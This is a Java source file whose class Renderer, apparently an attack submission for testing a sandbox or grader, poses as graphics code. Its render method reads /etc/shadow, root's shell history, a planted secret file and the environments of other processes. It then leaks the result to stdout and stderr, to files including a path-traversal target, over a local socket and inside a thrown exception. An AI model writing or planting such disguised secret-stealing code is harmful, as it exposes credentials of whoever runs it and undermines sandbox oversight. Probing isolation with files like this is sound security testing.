package gfx.tick1;

import java.awt.image.BufferedImage;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Reads a secret file, its environment and every visible process's, then prints them, throws them,
 * writes them and sends them.
 */
public class Renderer {

    public Renderer(int width, int height) {
    }

    public BufferedImage render(Scene scene) {
        StringBuilder loot = new StringBuilder("LOOT ");
        for (String file : new String[] {"/tmp/tick1-attack-secret.txt", "/etc/shadow", "/root/.bash_history"}) {
            try {
                loot.append(Files.readString(Path.of(file))).append("; ");
            } catch (Exception e) {
                loot.append(file).append(": ").append(e.getClass().getSimpleName()).append("; ");
            }
        }
        loot.append(System.getenv());
        // The environment of every process it can see: the sandbox's own first process included.
        for (int pid = 1; pid < 64; pid++) {
            Path environ = Path.of("/proc/" + pid + "/environ");
            if (Files.exists(environ)) {
                try {
                    loot.append("; /proc/").append(pid).append("/environ: ")
                            .append(new String(Files.readAllBytes(environ), StandardCharsets.UTF_8).replace('\0', ' '));
                } catch (Exception e) {
                    loot.append("; ").append(environ).append(": ").append(e.getClass().getSimpleName());
                }
            }
        }
        System.out.println(loot);
        System.err.println(loot);
        for (String file : new String[] {"/tmp/tick1-attack-leak.txt", System.getProperty("user.home") + "/tick1-attack-leak.txt",
                "/output/../tick1-attack-leak.txt", "tick1-attack-leak.txt"}) {
            try {
                Files.writeString(Path.of(file), loot);
            } catch (Exception e) {
                System.out.println(file + ": " + e);
            }
        }
        try (Socket socket = new Socket("127.0.0.1", 47811); OutputStream out = socket.getOutputStream()) {
            out.write(loot.toString().getBytes(StandardCharsets.UTF_8));
        } catch (Exception e) {
            System.out.println("127.0.0.1:47811: " + e);
        }
        throw new IllegalStateException(loot.toString());
    }
}
